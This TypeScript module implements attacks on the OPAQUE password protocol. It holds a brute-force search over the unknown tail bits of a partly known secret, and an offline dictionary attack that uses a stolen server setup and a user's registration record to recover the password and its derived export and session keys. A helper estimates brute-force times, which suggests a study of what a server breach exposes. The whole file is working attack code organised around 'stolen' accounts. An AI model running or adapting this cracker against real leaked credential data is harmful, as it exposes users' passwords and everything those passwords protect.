/** Guesses, one after the other, as fast as this machine makes them. */
import { client, ready, server } from '@serenity-kit/opaque';
import type { Haul, StolenAccount } from './haul.ts';

export interface Guessed<T> {
  readonly found: T | null;
  readonly guesses: number;
  readonly perSecond: number;
}

/**
 * Goes through the values of the last `unknownBits` of a secret, whose other bits are told.
 *
 * @param fits whether bytes are the secret.
 */
export function enumerateTail(
  told: Uint8Array,
  unknownBits: number,
  fits: (secret: Uint8Array) => boolean,
): Guessed<Uint8Array> {
  const start = performance.now();
  const count = 2 ** unknownBits;
  const base = Uint8Array.from(told);
  for (let i = 0; i < count; i += 1) {
    const guess = withTail(base, unknownBits, i);
    if (fits(guess)) return { found: guess, guesses: i + 1, perSecond: rate(i + 1, start) };
  }
  return { found: null, guesses: count, perSecond: rate(count, start) };
}

/** The bytes with other bits at their end. */
export function withTail(bytes: Uint8Array, bits: number, tail: number): Uint8Array {
  const mask = (1n << BigInt(bits)) - 1n;
  const number = BigInt(`0x${Buffer.from(bytes).toString('hex')}`);
  const text = ((number & ~mask) | BigInt(tail)).toString(16).padStart(bytes.length * 2, '0');
  return Uint8Array.from(Buffer.from(text, 'hex'));
}

export interface PasswordFound {
  readonly password: string;
  /** What OPAQUE gives a client besides the proof: everything that a password leads to. */
  readonly secrets: readonly Uint8Array[];
}

/** An offline dictionary attack with the server's own setup (RFC 9807 section 10.9 says that it is possible). */
export async function guessPassword(
  { serverSetup }: Pick<Haul, 'serverSetup'>,
  account: StolenAccount,
  words: readonly string[],
): Promise<Guessed<PasswordFound>> {
  await ready;
  const start = performance.now();
  for (const [i, password] of words.entries()) {
    const { clientLoginState, startLoginRequest } = client.startLogin({ password });
    const { loginResponse } = server.startLogin({
      serverSetup,
      userIdentifier: account.handle,
      registrationRecord: Buffer.from(account.registrationRecord).toString('base64url'),
      startLoginRequest,
    });
    const finished = client.finishLogin({
      clientLoginState,
      loginResponse,
      password,
      keyStretching: 'memory-constrained',
    });
    if (finished !== undefined) {
      const { exportKey, sessionKey } = finished;
      const secrets = [exportKey, sessionKey].map((text) => Buffer.from(text, 'base64url'));
      const found = { password, secrets: [Buffer.from(password), ...secrets] };
      return { found, guesses: i + 1, perSecond: rate(i + 1, start) };
    }
  }
  return { found: null, guesses: words.length, perSecond: rate(words.length, start) };
}

function rate(guesses: number, start: number): number {
  return (guesses * 1_000) / Math.max(1, performance.now() - start);
}

/** How long it takes to go through half of what there is, in words. */
export function yearsFor(bits: number, perSecond: number): string {
  const years = 2 ** (bits - 1) / perSecond / (365.25 * 24 * 3_600);
  return `${perSecond.toFixed(0)} a second on this machine: ${years.toExponential(1)} years for half of ${bits} bits`;
}
